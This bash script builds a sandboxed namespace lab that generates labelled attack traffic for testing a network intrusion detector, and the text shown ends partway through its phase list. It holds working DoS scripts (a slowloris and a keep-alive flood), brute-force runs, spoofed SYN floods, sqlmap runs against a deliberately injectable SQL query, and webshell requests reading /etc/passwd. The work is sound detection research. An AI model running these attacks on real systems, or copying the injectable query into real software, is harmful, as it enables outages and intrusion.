#!/usr/bin/env bash
# lab-tools.sh -- a second labelled lab: the same attack classes as ../shared/tools/lab/make-lab.sh, made by OTHER
# tools and settings on another (simulated) network, to measure whether the attack model learned behaviour or the
# lab's tools (issue 9). Everything runs inside private network namespaces created here; every tool is wrapped in
# `timeout` and bounded in count; nothing leaves 172.30.5.0/24.
#
#   ns tl-victim   eth0 172.30.5.5   nginx (pages, text downloads, a small web app behind it), OpenSSH, vsftpd, dnsmasq
#   ns tl-client   eth0 172.30.5.40  benign users (wget mirroring, curl keep-alive, range downloads, ssh/sftp, ftp, dig)
#   ns tl-attacker eth0 172.30.5.99  attack tools (spoofed floods use random source addresses)
#   ns tl-sw       br0               the bridge
#
# Unlike the first lab: another subnet and MACs, 3 ms of one-way delay on the client's and the attacker's links
# (when the kernel has netem), a victim without TCP timestamps (other header lengths) and another receive buffer
# (other initial windows). Attack tools: masscan; nmap -sA/-sN/-sW/-sT -T3/-O/-sC; hydra, medusa and ncrack
# against ssh and ftp; a GoldenEye-like keep-alive flood, a python slowloris, slowhttptest -R (range) and -X (slow
# read), ab and siege as floods; hping3 spoofed SYN flood (--rand-source), UDP flood, slow single-source SYN flood;
# sqlmap, gobuster, dirb and a webshell's command requests against the web app.
#
# Usage:  bash models/train/lab-tools.sh              (root; ~8 min; creates the user webops for SSH/FTP)
#   env:  LAB=/tmp/lab-tools   work directory (captures in $LAB/out: phase-<name>.pcap.gz, labels.csv, summary.txt)
#         PHASES="..."         a subset of the phases below, in order (default: all)
#         ONLY_TEARDOWN=1      remove this lab's namespaces and exit
# labels.csv: one row per phase and source: phase,label,tool,src_ip,start_epoch,end_epoch. src_ip "*" = any address
# except the benign client's (spoofed floods). Rule: a flow (its first packet at t) gets the label of the row whose
# window holds t and whose src_ip is one of its endpoints ("*": neither endpoint is the client); else BENIGN.
set -u
export LC_ALL=C
LAB=${LAB:-/tmp/lab-tools}
OUT=$LAB/out; RUN=$LAB/run; WWW=$LAB/www; KEYS=$LAB/keys
NET=172.30.5; VICTIM=$NET.5; CLIENT=$NET.40; ATTACKER=$NET.99
VICTIM_MAC=02:30:05:00:00:05
NS_ALL="tl-victim tl-client tl-attacker tl-sw"
LAB_USER=webops; LAB_PASS='Autumn#2025'
DRAIN=2; GAP=2
ALL_PHASES="benign masscan nmapalt nmapscripts hydrassh medusaftp ncrackssh hydraftp goldeneye slowloris slowrange slowread ab siege synspoof udpflood synslow sqlmap gobuster dirb webshell"
PHASES=${PHASES:-$ALL_PHASES}

log() { printf '[%(%H:%M:%S)T] %s\n' -1 "$*" | tee -a "$RUN/lab.log" >&2; }
die() { log "FATAL: $*"; teardown; exit 1; }
nsx() { local ns=$1; shift; ip netns exec "$ns" "$@"; }
now() { date +%s.%N | cut -c1-17; }

[ "$(id -u)" = 0 ] || { echo "lab-tools.sh: must run as root" >&2; exit 1; }

ns_exists() { ip netns list 2>/dev/null | awk '{print $1}' | grep -qx "$1"; }
teardown() {
  local ns pids p
  for ns in $NS_ALL; do
    ns_exists "$ns" || continue
    for p in $(ip netns pids "$ns" 2>/dev/null); do [ "$(cat /proc/$p/comm 2>/dev/null)" = tcpdump ] && kill -TERM "$p" 2>/dev/null; done
    sleep 0.5
    pids=$(ip netns pids "$ns" 2>/dev/null | tr '\n' ' ')
    [ -n "$pids" ] && kill $pids 2>/dev/null
    for _ in 1 2 3 4 5 6; do pids=$(ip netns pids "$ns" 2>/dev/null | tr '\n' ' '); [ -z "$pids" ] && break; sleep 0.5; done
    [ -n "$pids" ] && kill -9 $pids 2>/dev/null
    ip netns del "$ns" 2>/dev/null
  done
  rm -rf /etc/netns/tl-victim /etc/netns/tl-client /etc/netns/tl-attacker
}
if [ "${ONLY_TEARDOWN:-0}" = 1 ]; then teardown; echo "lab-tools torn down"; exit 0; fi

mkdir -p "$OUT" "$RUN" "$WWW" "$KEYS"
: > "$RUN/lab.log"

PKGS="nginx-light openssh-server openssh-client sshpass vsftpd dnsmasq-base curl wget nmap masscan hping3 slowhttptest hydra medusa ncrack sqlmap gobuster dirb siege apache2-utils tcpdump tshark dnsutils iproute2 ethtool procps python3 iputils-ping"
install_pkgs() {
  local missing="" p made=0
  for p in $PKGS; do dpkg -s "$p" 2>/dev/null | grep -q '^Status: install ok installed' || missing="$missing $p"; done
  [ -z "$missing" ] && return 0
  log "installing:$missing"
  # package scripts must not start daemons in the root namespace
  [ -e /usr/sbin/policy-rc.d ] || { printf '#!/bin/sh\nexit 101\n' > /usr/sbin/policy-rc.d; chmod +x /usr/sbin/policy-rc.d; made=1; }
  echo "wireshark-common wireshark-common/install-setuid boolean false" | debconf-set-selections 2>/dev/null
  timeout 300 apt-get update -q >"$RUN/apt.log" 2>&1
  DEBIAN_FRONTEND=noninteractive timeout 900 apt-get install -y -q --no-install-recommends $missing >>"$RUN/apt.log" 2>&1; local rc=$?
  [ $made = 1 ] && rm -f /usr/sbin/policy-rc.d
  [ $rc = 0 ] || { echo "apt-get install failed (see $RUN/apt.log)" >&2; exit 1; }
}

# ----------------------------------------------------------------- content: text only, so the captures compress
prepare_content() {
  mkdir -p "$WWW"/{docs,dl,assets}
  local words="network sensor flow packet window header payload latency throughput capture replay model verdict"
  local i j
  { echo '<!doctype html><html><head><title>Intranet</title><link rel="stylesheet" href="/assets/site.css"></head><body><h1>Intranet</h1><ul>'
    for i in $(seq 1 12); do echo "<li><a href=\"/docs/doc$i.html\">Document $i</a></li>"; done
    echo '<li><a href="/dl/">Downloads</a></li><li><a href="/app/">App</a></li></ul></body></html>'; } > "$WWW/index.html"
  for i in $(seq 1 12); do
    { echo "<!doctype html><html><head><title>Document $i</title><link rel=\"stylesheet\" href=\"/assets/site.css\"></head><body>"
      for j in $(seq 1 $(( i * 40 ))); do echo "<p>$i.$j $words $((j * 7919 % 1000))</p>"; done
      echo '<a href="/index.html">back</a></body></html>'; } > "$WWW/docs/doc$i.html"
  done
  { for j in $(seq 1 500); do echo ".k$j{margin:${j}px}"; done; } > "$WWW/assets/site.css"
  # downloads: text logs and a CSV (compressible), 200 KB .. 4 MB
  for f in 200k:200 1m:1024 4m:4096; do
    [ -s "$WWW/dl/log-${f%%:*}.txt" ] || { j=0; while [ $(( j * 64 )) -lt $(( ${f##*:} * 1024 )) ]; do
      printf '2026-11-30T12:%02d:%02d host%03d sshd[%05d]: session opened for user u%d\n' $((j%60)) $((j*7%60)) $((j%250)) $((j%99999)) $((j%40)); j=$((j+1)); done > "$WWW/dl/log-${f%%:*}.txt"; }
  done
  echo "<html><body>not found</body></html>" > "$WWW/404.html"
  chmod -R a+rX "$WWW"; chmod a+x "$LAB"

  # the web app behind nginx (/app/): a product search backed by SQLite with an injectable query (sqlmap's
  # target), a login form, and a "webshell" that echoes canned output (the traffic of one, not a real shell)
  cat > "$RUN/app.py" <<'PY'
import http.server, socketserver, sqlite3, urllib.parse
db = sqlite3.connect(":memory:", check_same_thread=False)
db.execute("CREATE TABLE items (id INTEGER PRIMARY KEY, name TEXT, price REAL)")
db.execute("CREATE TABLE users (id INTEGER PRIMARY KEY, login TEXT, hash TEXT)")
db.executemany("INSERT INTO items VALUES (?,?,?)", [(i, "item %d" % i, i * 1.5) for i in range(1, 60)])
db.executemany("INSERT INTO users VALUES (?,?,?)", [(1, "admin", "5f4dcc3b5aa765d61d8327deb882cf99"), (2, "ops", "e99a18c428cb38d5f260853678922e03")])
CANNED = {"id": "uid=33(www-data) gid=33(www-data) groups=33(www-data)", "uname -a": "Linux web01 6.1.0-13-amd64 x86_64 GNU/Linux",
          "ls": "index.php\nupload\nconfig.php", "cat /etc/passwd": "root:x:0:0:root:/root:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin"}
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def _send(self, code, text):
        b = text.encode()
        self.send_response(code); self.send_header("Content-Type", "text/html"); self.send_header("Content-Length", str(len(b)))
        self.end_headers(); self.wfile.write(b)
    def _route(self, q):
        path = urllib.parse.urlparse(self.path).path
        if path.startswith("/app/item"):
            try:
                rows = db.execute("SELECT id, name, price FROM items WHERE id = " + q.get("id", ["1"])[0]).fetchall()
                return self._send(200, "<html><body>" + "".join("<p>%s %s %s</p>" % r for r in rows) + "</body></html>")
            except Exception as e:
                return self._send(500, "<html><body>database error: %s</body></html>" % e)
        if path.startswith("/app/shell"):
            cmd = q.get("cmd", [""])[0]
            return self._send(200, "<pre>%s</pre>" % CANNED.get(cmd, ""))
        if path.startswith("/app/login"):
            return self._send(200, "<html><body>invalid login</body></html>")
        if path in ("/app/", "/app/index"):
            return self._send(200, "<html><body><form action=/app/login method=post><input name=u><input name=p></form><a href=/app/item?id=1>item</a></body></html>")
        return self._send(404, "<html><body>no such page</body></html>")
    def do_GET(self): self._route(urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query))
    def do_POST(self):
        n = int(self.headers.get("Content-Length") or 0); body = self.rfile.read(n).decode("latin-1") if n else ""
        q = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query); q.update(urllib.parse.parse_qs(body)); self._route(q)
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer): daemon_threads = True
S(("127.0.0.1", 8090), H).serve_forever()
PY

  id "$LAB_USER" >/dev/null 2>&1 || useradd -m -s /bin/bash "$LAB_USER"
  echo "$LAB_USER:$LAB_PASS" | chpasswd
  mkdir -p /home/$LAB_USER/reports
  for j in 1 2 3; do [ -s /home/$LAB_USER/reports/r$j.txt ] || cp "$WWW/dl/log-200k.txt" /home/$LAB_USER/reports/r$j.txt; done
  chown -R $LAB_USER: /home/$LAB_USER/reports

  printf '%s\n' admin root webops support backup deploy oracle postgres > "$RUN/users.txt"
  { printf '%s\n' 123456 password admin letmein welcome qwerty 12345678 abc123 monkey dragon master shadow sunshine \
      princess football baseball iloveyou trustno1 1q2w3e4r passw0rd P@ssw0rd changeme secret root toor admin123 \
      Welcome1 Summer2025 Winter2025 Spring2025 Company1 qwerty123 zaq12wsx 1qaz2wsx hunter2 starwars michael jordan
    for j in $(seq 1 30); do echo "Pass$((j * 13))!"; done
    echo "$LAB_PASS"; } > "$RUN/passwords.txt"
}

# ----------------------------------------------------------------- network
setup_net() {
  local ns spec name mac ip
  for ns in $NS_ALL; do
    ip netns add "$ns" || die "ip netns add $ns"
    nsx "$ns" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1 >/dev/null
    ip -n "$ns" link set lo up
  done
  ip -n tl-sw link add br0 type bridge stp_state 0 forward_delay 0
  ip -n tl-sw link set br0 up
  for spec in tl-victim:$VICTIM_MAC:$VICTIM tl-client:02:30:05:00:00:40:$CLIENT tl-attacker:02:30:05:00:00:99:$ATTACKER; do
    name=${spec%%:*}; mac=$(echo "$spec" | cut -d: -f2-7); ip=${spec##*:}
    ip -n tl-sw link add "p-${name#tl-}" type veth peer name eth0 netns "$name" || die "veth $name"
    ip -n tl-sw link set "p-${name#tl-}" master br0 up
    ip -n "$name" link set eth0 address "$mac"
    ip -n "$name" addr add "$ip/24" dev eth0
    ip -n "$name" link set eth0 up
    nsx "$name" ethtool -K eth0 tx off rx off sg off tso off gso off gro off >/dev/null 2>&1
    nsx tl-sw ethtool -K "p-${name#tl-}" tx off rx off sg off tso off gso off gro off >/dev/null 2>&1
  done
  # another network: a few ms away (when netem exists), a server without TCP timestamps and with another buffer
  NETEM=0
  for name in tl-client tl-attacker; do
    nsx "$name" tc qdisc add dev eth0 root netem delay 3ms limit 200000 2>/dev/null && NETEM=1
  done
  log "netem delay: $([ $NETEM = 1 ] && echo 3 ms each way from client and attacker || echo 'not available (no delay)')"
  # The spoofed SYN flood's sources are random addresses: as on a real network, the victim answers them (SYN-ACK
  # and its retries) through a gateway, here a phantom one on the bridge (a fixed MAC no interface has, so the
  # bridge floods those frames to the lab's other ports and they die there). Without it the victim drops its
  # answers and each spoofed SYN is a one-packet flow, which the cic2017 profile never writes.
  ip -n tl-victim neigh add $NET.1 lladdr 02:30:05:00:00:01 dev eth0 nud permanent
  ip -n tl-victim route add default via $NET.1 dev eth0
  nsx tl-victim sysctl -qw net.ipv4.tcp_timestamps=0 net.ipv4.tcp_rmem="4096 32768 4194304" \
      net.core.somaxconn=4096 net.ipv4.tcp_max_syn_backlog=4096 >/dev/null
  for ns in tl-client tl-attacker tl-victim; do
    mkdir -p /etc/netns/$ns
    if [ $ns = tl-victim ]; then echo "nameserver 127.0.0.1" > /etc/netns/$ns/resolv.conf; else echo "nameserver $VICTIM" > /etc/netns/$ns/resolv.conf; fi
    printf '127.0.0.1 localhost\n' > /etc/netns/$ns/hosts
  done
}

safety_check() {
  local ns r
  for ns in $NS_ALL; do
    r=$(ip -n "$ns" -4 route show | grep -v "^$NET\.0/24 " | grep -v "^default via $NET\.1 dev eth0")
    [ -z "$r" ] || die "namespace $ns has unexpected routes: $r"
  done
  nsx tl-client ping -c1 -W2 "$VICTIM" >/dev/null || die "client cannot reach victim"
  nsx tl-attacker ping -c1 -W2 "$VICTIM" >/dev/null || die "attacker cannot reach victim"
  [ -z "$(ip -n tl-sw -4 addr show dev br0)" ] || die "the bridge namespace has an address"
  log "safety check ok: only $NET.0/24 in the lab namespaces (the victim's default route leads to a phantom gateway on the bridge)"
}

start_servers() {
  [ -s "$KEYS/ssh_host_ed25519_key" ] || ssh-keygen -q -t ed25519 -N '' -f "$KEYS/ssh_host_ed25519_key"
  [ -s "$KEYS/ssh_host_ecdsa_key" ] || ssh-keygen -q -t ecdsa -N '' -f "$KEYS/ssh_host_ecdsa_key"
  chmod 600 "$KEYS"/ssh_host_*_key
  mkdir -p /run/sshd /var/run/vsftpd/empty /var/lib/nginx/body /var/log/nginx
  cat > "$RUN/sshd_config" <<EOF
Port 22
ListenAddress $VICTIM
HostKey $KEYS/ssh_host_ed25519_key
HostKey $KEYS/ssh_host_ecdsa_key
PidFile $RUN/sshd.pid
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
PermitRootLogin no
UseDNS no
MaxStartups 100:30:200
MaxAuthTries 4
LoginGraceTime 20
Subsystem sftp internal-sftp
EOF
  cat > "$RUN/nginx.conf" <<EOF
user www-data;
worker_processes 2;
worker_rlimit_nofile 16384;
pid $RUN/nginx.pid;
error_log $RUN/nginx-error.log warn;
events { worker_connections 8192; }
http {
  include /etc/nginx/mime.types;
  default_type text/plain;
  access_log off;
  sendfile on;
  keepalive_timeout 30s;
  keepalive_requests 500;
  client_header_timeout 60s;
  client_body_temp_path /var/lib/nginx/body;
  server {
    listen $VICTIM:80 default_server backlog=4096;
    server_name intranet.corp.test;
    root $WWW;
    index index.html;
    error_page 404 /404.html;
    location /dl/ { autoindex on; }
    location /app/ { proxy_pass http://127.0.0.1:8090; proxy_http_version 1.1; proxy_set_header Connection ""; }
  }
}
EOF
  cat > "$RUN/vsftpd.conf" <<EOF
listen=YES
listen_ipv6=NO
listen_address=$VICTIM
background=NO
anonymous_enable=NO
local_enable=YES
write_enable=YES
secure_chroot_dir=/var/run/vsftpd/empty
pam_service_name=vsftpd
seccomp_sandbox=NO
isolate=NO
isolate_network=NO
pasv_enable=YES
pasv_min_port=40000
pasv_max_port=40100
max_clients=300
max_per_ip=100
ftpd_banner=corp ftp
EOF
  nsx tl-victim /usr/sbin/sshd -f "$RUN/sshd_config" -E "$RUN/sshd.log" || log "WARN sshd failed"
  nsx tl-victim nginx -c "$RUN/nginx.conf" || log "WARN nginx failed"
  nsx tl-victim setsid python3 "$RUN/app.py" >"$RUN/app.log" 2>&1 < /dev/null &
  nsx tl-victim setsid /usr/sbin/vsftpd "$RUN/vsftpd.conf" >"$RUN/vsftpd.out" 2>&1 < /dev/null &
  nsx tl-victim setsid dnsmasq --keep-in-foreground --no-resolv --no-hosts --no-poll --bind-interfaces \
      --listen-address="$VICTIM" --pid-file="$RUN/dnsmasq.pid" --local=/corp.test/ --domain=corp.test \
      --host-record=intranet.corp.test,$VICTIM --host-record=files.corp.test,$VICTIM --host-record=git.corp.test,$VICTIM \
      --mx-host=corp.test,mail.corp.test,10 --host-record=mail.corp.test,$VICTIM >"$RUN/dnsmasq.out" 2>&1 < /dev/null &
  local ok=0
  for _ in $(seq 1 30); do
    ok=1
    for p in 22 80 21; do nsx tl-victim ss -Hltn "sport = :$p" | grep -q LISTEN || ok=0; done
    nsx tl-victim ss -Hltn "sport = :8090" | grep -q LISTEN || ok=0
    [ $ok = 1 ] && break; sleep 0.3
  done
  [ $ok = 1 ] || die "servers did not come up (see $RUN/*.log)"
  log "victim listening: $(nsx tl-victim ss -Hltnu | awk '{print $5}' | tr '\n' ' ')"
}

# ----------------------------------------------------------------- helpers (benign users, python attack tools)
write_helpers() {
  # benign users of another kind than the first lab's: wget mirroring, curl keep-alive sessions with several
  # requests, range-resumed downloads, form posts, DNS; $1 = seconds, $2 = max iterations, $3 = max think time
  cat > "$RUN/users.sh" <<SH
#!/bin/bash
end=\$(( \$(date +%s) + \$1 )); n=0
while [ "\$(date +%s)" -lt \$end ] && [ \$n -lt \$2 ]; do
  n=\$((n+1)); r=\$((RANDOM % 10)); d=\$((RANDOM % 12 + 1))
  case \$r in
    0|1) wget -q -T 10 -r -l 1 -np -nd -P /tmp/tl-mirror-\$\$ --delete-after http://intranet.corp.test/ ;;
    2|3) curl -s -m 10 -A "Wget/1.21.3" --compressed -o /dev/null http://intranet.corp.test/docs/doc\$d.html -o /dev/null http://intranet.corp.test/assets/site.css -o /dev/null http://intranet.corp.test/docs/doc\$(( (d % 12) + 1 )).html ;;
    4) curl -s -m 15 -r 0-262143 -o /dev/null http://files.corp.test/dl/log-1m.txt; curl -s -m 15 -r 262144- -o /dev/null http://files.corp.test/dl/log-1m.txt ;;
    5) curl -s -m 10 -o /dev/null -d "u=alice&p=secret\$RANDOM" http://intranet.corp.test/app/login ;;
    6) curl -s -m 10 -o /dev/null "http://intranet.corp.test/app/item?id=\$(( RANDOM % 50 + 1 ))" ;;
    7) dig +tries=1 +time=2 @$VICTIM intranet.corp.test A >/dev/null; dig +tries=1 +time=2 @$VICTIM corp.test MX >/dev/null ;;
    8) curl -s -m 20 -o /dev/null http://files.corp.test/dl/log-200k.txt ;;
    9) dig +tries=1 +time=2 @$VICTIM "host\$RANDOM.corp.test" A >/dev/null ;;
  esac
  sleep "\$(( RANDOM % \$3 )).\$((RANDOM % 10))"
done
rm -rf /tmp/tl-mirror-\$\$
SH
  # GoldenEye-like: keep-alive connections, each sending many GET/POSTs with random paths, parameters and
  # no-cache headers, then dropped; $1 host $2 seconds $3 workers $4 max requests
  cat > "$RUN/goldeneye.py" <<'PY'
import random, socket, string, sys, threading, time
host, dur, workers, maxreq = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
UA = ["Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.1", "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2)",
      "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_10_1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0 Safari/537.36"]
def rs(n): return "".join(random.choice(string.ascii_letters + string.digits) for _ in range(n))
end, lock, sent = time.time() + dur, threading.Lock(), [0]
def worker():
    while time.time() < end:
        try:
            s = socket.create_connection((host, 80), timeout=3)
            for _ in range(random.randint(5, 40)):
                with lock:
                    if sent[0] >= maxreq: s.close(); return
                    sent[0] += 1
                path = "/%s?%s=%s&%s=%s" % (random.choice(["", "docs/doc%d.html" % random.randint(1, 3), "app/item"]), rs(6), rs(12), rs(4), rs(20))
                method = random.choice(["GET", "GET", "POST"])
                body = "%s=%s" % (rs(5), rs(random.randint(10, 200))) if method == "POST" else ""
                req = ("%s %s HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept-Encoding: gzip, deflate\r\nCache-Control: no-cache, max-age=0\r\n"
                       "Pragma: no-cache\r\nReferer: http://www.%s.com/?q=%s\r\nKeep-Alive: %d\r\nConnection: keep-alive\r\n%s\r\n%s"
                       % (method, path, host, random.choice(UA), rs(8), rs(10), random.randint(1, 5000),
                          ("Content-Length: %d\r\nContent-Type: application/x-www-form-urlencoded\r\n" % len(body)) if body else "", body))
                s.sendall(req.encode()); s.recv(65536)
            s.close()
        except Exception:
            time.sleep(0.05)
ts = [threading.Thread(target=worker, daemon=True) for _ in range(workers)]
[t.start() for t in ts]; [t.join(dur + 5) for t in ts]
print("goldeneye-like: requests=%d" % sent[0])
PY
  # slowloris in python: N sockets, an incomplete request each, one more header line every $4 s
  cat > "$RUN/slowloris.py" <<'PY'
import random, socket, sys, time
host, dur, n, every = sys.argv[1], float(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
def opensock():
    s = socket.create_connection((host, 80), timeout=4)
    s.sendall(("GET /?%d HTTP/1.1\r\nHost: %s\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0\r\nAccept-language: en-US,en,q=0.5\r\n" % (random.randint(0, 99999), host)).encode())
    return s
end = time.time() + dur; socks = []
for _ in range(n):
    try: socks.append(opensock())
    except Exception: pass
while time.time() < end:
    for s in list(socks):
        try: s.sendall(("X-a: %d\r\n" % random.randint(1, 5000)).encode())
        except Exception:
            socks.remove(s)
            try: socks.append(opensock())
            except Exception: pass
    time.sleep(min(every, max(0.0, end - time.time())))
print("slowloris.py: sockets=%d" % len(socks))
PY
}

# ----------------------------------------------------------------- phases
ROWS="$RUN/phases.tsv"
rec() { printf '%s\t%s\t%s\t%s\t%s\t%s\n' "$@" >> "$ROWS"; }   # phase label tool src start end

A="nsx tl-attacker"
phase_benign() {
  local c="nsx tl-client" pids=""
  $c timeout 65 bash "$RUN/users.sh" 58 200 3 >/dev/null 2>&1 & pids="$pids $!"
  (sleep 5; $c timeout 60 bash "$RUN/users.sh" 50 200 4 >/dev/null 2>&1) & pids="$pids $!"
  ( sleep 3
    { sleep 2; for cmd in "hostname" "w" "ls -l reports" "wc -l reports/r1.txt" "grep -c sshd reports/r2.txt" "free -m" "tail -5 reports/r3.txt" "date"; do
        printf '%s\n' "$cmd"; sleep "$((RANDOM % 4 + 1)).$((RANDOM % 10))"; done; echo exit; } |
      $c timeout 45 sshpass -p "$LAB_PASS" ssh -tt -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no \
         $LAB_USER@intranet.corp.test >"$RUN/ssh-session.log" 2>&1
    printf 'get reports/r1.txt /dev/null\nls reports\nbye\n' | $c timeout 20 sshpass -p "$LAB_PASS" sftp -o StrictHostKeyChecking=no \
         -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no $LAB_USER@intranet.corp.test >>"$RUN/ssh-session.log" 2>&1
  ) & pids="$pids $!"
  ( sleep 12; $c timeout 20 curl -s -m 15 "ftp://$LAB_USER:$LAB_PASS@files.corp.test/reports/" -o /dev/null
    $c timeout 20 curl -s -m 15 "ftp://$LAB_USER:$LAB_PASS@files.corp.test/reports/r2.txt" -o /dev/null
    sleep 10; $c timeout 20 curl -s -m 15 -T "$RUN/users.txt" "ftp://$LAB_USER:$LAB_PASS@files.corp.test/upload-$$.txt"
    sleep 8; $c timeout 20 wget -q -T 15 -O /dev/null http://files.corp.test/dl/log-4m.txt ) & pids="$pids $!"
  wait $pids
}
phase_masscan()     { $A timeout 16 masscan "$VICTIM" -p1-30000 --rate 3000 --wait 2 --interface eth0 --adapter-ip "$ATTACKER" --adapter-mac 02:30:05:00:00:99 --router-mac "$VICTIM_MAC" -oL "$RUN/masscan.txt" >"$RUN/masscan.log" 2>&1; }
phase_nmapalt() {
  $A timeout 15 nmap -n -Pn -sA -T4 --top-ports 300 "$VICTIM" >/dev/null 2>&1
  $A timeout 15 nmap -n -Pn -sN -T5 --top-ports 300 "$VICTIM" >/dev/null 2>&1
  $A timeout 15 nmap -n -Pn -sW -T4 --top-ports 300 "$VICTIM" >/dev/null 2>&1
  $A timeout 20 nmap -n -Pn -sT -T3 -p 1-1500 "$VICTIM" >/dev/null 2>&1
}
phase_nmapscripts() { $A timeout 45 nmap -n -Pn -sS -O -sC -T4 -p 21,22,53,80,443,8080 "$VICTIM" -oN "$RUN/nmap-sC.txt" >/dev/null 2>&1; }
phase_hydrassh()    { $A bash -c "cd '$RUN'; timeout 35 hydra -L users.txt -P passwords.txt -t 4 -I ssh://$VICTIM" >"$RUN/hydra-ssh.log" 2>&1; }
phase_medusaftp()   { $A bash -c "cd '$RUN'; timeout 35 medusa -h $VICTIM -U users.txt -P passwords.txt -M ftp -t 8" >"$RUN/medusa-ftp.log" 2>&1; }
phase_ncrackssh()   { $A bash -c "cd '$RUN'; timeout 30 ncrack -U users.txt -P passwords.txt -T4 ssh://$VICTIM" >"$RUN/ncrack-ssh.log" 2>&1; }
phase_hydraftp()    { $A bash -c "cd '$RUN'; timeout 25 hydra -L users.txt -P passwords.txt -t 12 -I ftp://$VICTIM" >"$RUN/hydra-ftp.log" 2>&1; }
phase_goldeneye()   { $A timeout 25 python3 "$RUN/goldeneye.py" "$VICTIM" 18 30 6000 >"$RUN/goldeneye.log" 2>&1; }
phase_slowloris()   { $A bash -c "ulimit -n 8192; timeout 45 python3 '$RUN/slowloris.py' $VICTIM 38 300 8" >"$RUN/slowloris.log" 2>&1; }
phase_slowrange()   { $A bash -c "ulimit -n 8192; cd '$RUN'; timeout 25 slowhttptest -R -c 400 -a 5 -b 2000 -r 100 -t HEAD -l 18 -u http://$VICTIM/dl/log-1m.txt" >"$RUN/slowrange.log" 2>&1; }
phase_slowread()    { $A bash -c "ulimit -n 8192; cd '$RUN'; timeout 35 slowhttptest -X -c 300 -r 100 -w 16 -y 64 -n 4 -z 32 -k 3 -l 28 -u http://$VICTIM/dl/log-1m.txt" >"$RUN/slowread.log" 2>&1; }
phase_ab()          { $A timeout 15 ab -q -n 5000 -c 40 "http://$VICTIM/index.html" >"$RUN/ab.log" 2>&1; }
phase_siege()       { $A timeout 20 siege -b -c 25 -r 100 "http://$VICTIM/index.html" >"$RUN/siege.log" 2>&1; }
phase_synspoof()    { $A timeout 10 hping3 -q -S -p 80 --rand-source -i u400 -c 20000 "$VICTIM" >"$RUN/hping3-spoof.log" 2>&1; }
phase_udpflood() {
  # LOIC-style: a few sockets, each a fixed source port sending datagrams as fast as it can (one long flow each;
  # a flood with a new source port per datagram makes one-packet flows, which the cic2017 profile never writes)
  local sp pids=""
  for sp in 41001 41002 41003 41004 41005 41006; do
    $A timeout 10 hping3 -q --udp -k -s $sp -p 5060 -d 96 -i u1500 -c 5000 "$VICTIM" >"$RUN/hping3-udp-$sp.log" 2>&1 & pids="$pids $!"
  done
  wait $pids
}
phase_synslow()     { $A timeout 10 hping3 -q -S -p 443 -s 20000 -i u2000 -c 4500 -w 8192 "$VICTIM" >"$RUN/hping3-slow.log" 2>&1; }
phase_sqlmap() {
  $A bash -c "cd '$RUN'; HOME='$RUN' timeout 60 sqlmap -u 'http://$VICTIM/app/item?id=1' --batch --level 2 --risk 1 --technique=BEU --threads 2 --dbms=sqlite --dump-all --output-dir='$RUN/sqlmap'" >"$RUN/sqlmap.log" 2>&1
  $A bash -c "cd '$RUN'; HOME='$RUN' timeout 40 sqlmap -u 'http://$VICTIM/app/login' --data 'u=alice&p=secret' --batch --level 3 --risk 2 --technique=BEU --threads 2 --output-dir='$RUN/sqlmap'" >>"$RUN/sqlmap.log" 2>&1
}
phase_gobuster()    { $A timeout 25 gobuster dir -q -u "http://$VICTIM/" -w /usr/share/dirb/wordlists/common.txt -t 10 -x php,html --no-error >"$RUN/gobuster.log" 2>&1; }
phase_dirb()        { $A timeout 25 dirb "http://$VICTIM/app/" /usr/share/dirb/wordlists/small.txt -S -r >"$RUN/dirb.log" 2>&1; }
phase_webshell() {
  local i cmd
  $A timeout 5 curl -s -m 4 -o /dev/null -F "file=@$RUN/app.py;filename=shell.php" "http://$VICTIM/app/upload"
  for i in $(seq 1 25); do
    for cmd in id "uname -a" ls "cat /etc/passwd"; do
      $A timeout 5 curl -s -m 4 -o /dev/null -A "Mozilla/5.0" --data-urlencode "cmd=$cmd" "http://$VICTIM/app/shell.php" 2>/dev/null
    done
    sleep "0.$((RANDOM % 6))"
  done
}

declare -A LABEL TOOL SRC
set_phase() { LABEL[$1]=$2; TOOL[$1]=$3; SRC[$1]=$4; }
set_phase benign BENIGN "wget mirror, curl keep-alive and ranges, form posts, dig, ssh session, sftp, ftp" "$CLIENT"
set_phase masscan PortScan "masscan -p1-30000 --rate 3000" "$ATTACKER"
set_phase nmapalt PortScan "nmap -sA -sN -sW -T4/5, -sT -T3" "$ATTACKER"
set_phase nmapscripts PortScan "nmap -sS -O -sC" "$ATTACKER"
set_phase hydrassh BruteForce "hydra ssh" "$ATTACKER"
set_phase medusaftp BruteForce "medusa ftp" "$ATTACKER"
set_phase ncrackssh BruteForce "ncrack ssh" "$ATTACKER"
set_phase hydraftp BruteForce "hydra ftp" "$ATTACKER"
set_phase goldeneye DoS "GoldenEye-like keep-alive flood (python)" "$ATTACKER"
set_phase slowloris DoS "slowloris (python)" "$ATTACKER"
set_phase slowrange DoS "slowhttptest -R (range)" "$ATTACKER"
set_phase slowread DoS "slowhttptest -X (slow read)" "$ATTACKER"
set_phase ab DoS "ab -n 5000 -c 40 flood" "$ATTACKER"
set_phase siege DoS "siege -b -c 25 flood" "$ATTACKER"
set_phase synspoof DDoS "hping3 -S --rand-source (spoofed)" "*"
set_phase udpflood DDoS "hping3 --udp flood, 6 sockets" "$ATTACKER"
set_phase synslow DDoS "hping3 -S 500/s, one source" "$ATTACKER"
set_phase sqlmap WebAttack "sqlmap" "$ATTACKER"
set_phase gobuster WebAttack "gobuster dir" "$ATTACKER"
